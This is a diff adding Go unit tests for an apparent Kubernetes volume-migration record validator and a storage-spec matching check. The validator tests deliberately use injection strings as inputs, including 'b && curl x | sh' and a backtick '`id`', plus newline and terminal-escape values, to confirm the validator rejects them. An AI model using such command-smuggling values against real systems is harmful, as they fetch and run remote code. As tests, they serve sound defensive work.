@@ -138,3 +138,53 @@ func TestPlaceNamesTheLastRestore(t *testing.T) {
 		t.Error("another restore does not change the place")
 	}
 }
+
+// TestWellFormed checks that a record cannot put text of a tenant's choice into the command's output.
+func TestWellFormed(t *testing.T) {
+	for name, tc := range map[string]struct {
+		change func(*Record)
+		want   bool
+	}{
+		"a record":                {func(*Record) {}, true},
+		"a later version's step":  {func(r *Record) { r.Phase = "Later" }, true},
+		"no copy yet":             {func(r *Record) { r.Copy, r.New = "", Disk{} }, true},
+		"no claim":                {func(r *Record) { r.Claim = nil }, false},
+		"a sentence as the step":  {func(r *Record) { r.Phase = "Copying\nTo do: run this" }, false},
+		"a command as the member": {func(r *Record) { r.To.Registration = "b && curl x | sh" }, false},
+		"a command as the origin": {func(r *Record) { r.From.Registration = "`id`" }, false},
+		"a sentence as the copy":  {func(r *Record) { r.Copy = "c. Everything is fine" }, false},
+		"a sentence as a volume":  {func(r *Record) { r.Old.Name = "v\nw" }, false},
+		"an escape as the copy's": {func(r *Record) { r.New.Name = "\x1b[31m" }, false},
+		"a cluster ID with text":  {func(r *Record) { r.To.ClusterID = "id. Run this" }, false},
+	} {
+		r := &Record{
+			ID: "abcde", Phase: Copying, Claim: &corev1.PersistentVolumeClaim{}, Copy: "data-move-abcde", Old: Disk{Name: "pvc-1"}, New: Disk{Name: "pvc-2"},
+			From: Place{Registration: "a", ClusterID: "id-a"}, To: Place{Registration: "b.example", ClusterID: "0f1c9e7e-3b1f"},
+		}
+		tc.change(r)
+		if got := r.wellFormed(); got != tc.want {
+			t.Errorf("%s: got %t, want %t", name, got, tc.want)
+		}
+	}
+}
+
+func TestFits(t *testing.T) {
+	for name, tc := range map[string]struct {
+		change func(*corev1.PersistentVolumeClaimSpec)
+		want   bool
+	}{
+		"as it was":           {func(*corev1.PersistentVolumeClaimSpec) {}, true},
+		"another class":       {func(spec *corev1.PersistentVolumeClaimSpec) { spec.StorageClassName = ptr.To("premium") }, false},
+		"another volume mode": {func(spec *corev1.PersistentVolumeClaimSpec) { spec.VolumeMode = ptr.To(corev1.PersistentVolumeBlock) }, false},
+		"another access mode": {func(spec *corev1.PersistentVolumeClaimSpec) {
+			spec.AccessModes = append(spec.AccessModes, corev1.ReadWriteMany)
+		}, false},
+	} {
+		modes := []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce}
+		r := &Record{Claim: &corev1.PersistentVolumeClaim{Spec: corev1.PersistentVolumeClaimSpec{StorageClassName: ptr.To("fast"), AccessModes: modes}}}
+		tc.change(&r.Claim.Spec)
+		if got := r.Fits(&corev1.PersistentVolume{Spec: corev1.PersistentVolumeSpec{StorageClassName: "fast", AccessModes: modes}}); got != tc.want {
+			t.Errorf("%s: got %t, want %t", name, got, tc.want)
+		}
+	}
+}
